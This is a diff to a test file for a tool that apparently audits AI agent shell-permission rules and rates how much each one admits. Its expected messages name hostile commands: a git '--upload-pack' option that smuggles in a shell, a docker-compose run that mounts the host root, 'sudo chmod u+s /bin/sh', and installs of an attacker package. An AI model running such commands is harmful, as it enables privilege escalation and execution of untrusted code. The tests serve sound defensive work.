@@ -118,7 +118,8 @@ describe('issue 9 misses on real configs (Artraid-IT-organization, FradSer): jud
   it.each([
     // a wildcard inside the command word admits every program it can match
     ['Bash(python3*:*)', 'high'],
-    ['Bash(pip*:*)', 'high'],
+    // `pip*` admits `pipenv run sh -c …` too
+    ['Bash(pip*:*)', 'critical'],
     ['Bash(npm*:*)', 'high'],
     ['Bash(npx*:*)', 'high'],
     ['Bash(node*:*)', 'high'],
@@ -169,7 +170,7 @@ describe('issue 9 misses on real configs (Artraid-IT-organization, FradSer): jud
   it('names a command the rule admits', async () => {
     const [versioned, prefix] = (await judge(['Bash(python3.12:*)', 'Bash(npm*:*)'])).map(([, , m]) => m);
     expect(versioned).toContain('admits `python3.12 -c');
-    expect(prefix).toContain('admits `npm exec attacker-package`');
+    expect(prefix).toContain('admits `npm install attacker-package`');
   });
 });
 
@@ -308,6 +309,91 @@ describe('credential-holding CLIs, sudo with file tools, packages behind wrapper
         'Bash(npx tsc:*)',
         'Bash(vercel deploy:*)',
         'Bash(gh pr view:*)',
+      ]),
+    ).toEqual([]);
+  });
+});
+
+describe('docker-compose is judged as docker compose (issue 9)', () => {
+  it.each([
+    ['docker compose:*', 'docker-compose:*'],
+    ['docker compose run:*', 'docker-compose run:*'],
+    ['docker compose exec:*', 'docker-compose exec:*'],
+    ['docker compose exec app env', 'docker-compose exec app env'],
+    ['podman compose exec:*', 'podman-compose exec:*'],
+    ['sudo docker compose:*', 'sudo docker-compose:*'],
+    ['timeout 60 docker compose exec:*', 'timeout 60 docker-compose exec:*'],
+    ['docker compose logs:*', 'docker-compose logs:*'],
+    ['docker compose ps', 'docker-compose ps'],
+  ])('Bash(%s) and Bash(%s) get one judgement, each naming its own spelling', async (v2, v1) => {
+    const [a, b] = await Promise.all([judge([`Bash(${v2})`]), judge([`Bash(${v1})`])]);
+    expect(b.map(([, severity]) => severity)).toEqual(a.map(([, severity]) => severity));
+    const normalise = (m: string) =>
+      m.replaceAll('docker-compose', 'docker compose').replaceAll('podman-compose', 'podman compose');
+    expect(b.map(([, , m]) => normalise(m))).toEqual(a.map(([, , m]) => m));
+    for (const [, , m] of b) expect(m).toMatch(/admits `[^`]*(docker|podman)-compose/);
+  });
+
+  it('a path-qualified v1 binary too', async () => {
+    const [finding] = await judge(['Bash(/usr/local/bin/docker-compose run:*)']);
+    expect(finding?.[1]).toBe('high');
+    expect(finding?.[2]).toContain('admits `/usr/local/bin/docker-compose run --rm -v /:/host app sh`');
+  });
+});
+
+describe('rules the analysis cannot bound are reported low, saying why (issue 9)', () => {
+  it.each([
+    ['Bash(for:*)', 'shell `for` compound command'],
+    ['Bash(while :*)', 'shell `while` compound command'],
+    ['Bash(if:*)', 'shell `if` compound command'],
+    ['Bash(chmod:*)', '`chmod` on any file'],
+    ['Bash(chmod +x:*)', '`chmod` on any file'],
+    ['Bash(chown *)', '`chown` on any file'],
+  ])('%s', async (rule, why) => {
+    const [finding, ...rest] = await judge([rule]);
+    expect(rest).toEqual([]);
+    expect(finding?.[1]).toBe('low');
+    expect(finding?.[2]).toContain(`${rule}" in user settings cannot be bounded: it admits `);
+    expect(finding?.[2]).toContain(why);
+    expect(finding?.[2]).toContain('cannot bound');
+  });
+
+  it('exact commands of the same programs admit only themselves: not reported', async () => {
+    expect(await judge(['Bash(chmod +x scripts/build.sh)', 'Bash(chmod 600 .env)'])).toEqual([]);
+  });
+
+  it('root permission changes stay broad (high), not merely unbounded', async () => {
+    const [finding] = await judge(['Bash(sudo chmod:*)']);
+    expect(finding?.[1]).toBe('high');
+    expect(finding?.[2]).toContain('admits `sudo chmod u+s /bin/sh`');
+  });
+});
+
+describe('installs, fetches and project runners that run code (issue 9 unsure rules, classified)', () => {
+  it.each([
+    ['Bash(npm install:*)', 'high', 'npm install attacker-package'],
+    ['Bash(npm i *)', 'high', 'npm i attacker-package'],
+    ['Bash(yarn add:*)', 'high', 'yarn add attacker-package'],
+    ['Bash(gem install:*)', 'high', 'gem install attacker-package'],
+    ['Bash(go install:*)', 'high', 'go install attacker.example/x@latest'],
+    ['Bash(git clone *)', 'high', "git clone --upload-pack='sh -c sh' /tmp/x"],
+    ['Bash(git pull:*)', 'high', "git pull --upload-pack='sh -c sh' /tmp/x"],
+    ['Bash(bundle exec:*)', 'critical', 'bundle exec sh -c'],
+    ['Bash(pipenv run:*)', 'critical', 'pipenv run sh -c'],
+  ])('%s is %s: admits %s', async (rule, severity, shown) => {
+    const [finding, ...rest] = await judge([rule]);
+    expect(rest).toEqual([]);
+    expect(finding?.[1]).toBe(severity);
+    expect(finding?.[2]).toContain(`admits \`${shown}`);
+  });
+
+  it('installing from the lockfile and fixed scripts stay narrow', async () => {
+    expect(
+      await judge([
+        'Bash(npm install)',
+        'Bash(npm ci:*)',
+        'Bash(npm run test:*)',
+        'Bash(bundle exec rspec:*)',
       ]),
     ).toEqual([]);
   });
